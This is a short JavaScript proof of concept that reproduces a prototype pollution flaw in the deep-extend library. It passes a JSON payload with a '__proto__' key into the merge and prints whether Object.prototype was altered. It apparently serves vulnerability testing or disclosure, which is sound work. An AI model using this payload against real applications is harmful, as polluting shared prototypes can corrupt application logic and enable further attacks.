// deep-extend prototype pollution (nodejs-security-wg 408): "__proto__" reaches Object.prototype.
const deepExtend = require('deep-extend');
deepExtend({}, JSON.parse('{"__proto__": {"polluted": "yes"}}'));
console.log({}.polluted === 'yes' ? 'POLLUTED' : 'clean');
